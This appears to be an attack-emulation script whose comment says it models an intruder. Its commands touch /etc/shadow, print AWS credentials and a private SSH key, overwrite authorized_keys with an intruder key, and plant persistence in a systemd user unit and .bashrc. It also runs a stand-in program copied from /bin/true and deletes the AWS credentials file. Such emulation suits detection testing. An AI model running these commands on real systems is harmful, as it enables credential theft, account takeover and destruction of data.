# An intruder with a shell: looks for keys, stays by a key, a unit and a line in an rc file, runs a program that it brought.
: < /etc/shadow
cat .aws/credentials .ssh/id_ed25519
echo 'ssh-ed25519 AAAA intruder' > .ssh/authorized_keys
chmod 600 .ssh/authorized_keys
cp /bin/true update.tmp
mv update.tmp update && ./update
printf '[Service]\nExecStart=%s/update\n' "$PWD" > .config/systemd/user/update.service
echo "$PWD/update &" >> .bashrc
rm .aws/credentials
exit 0
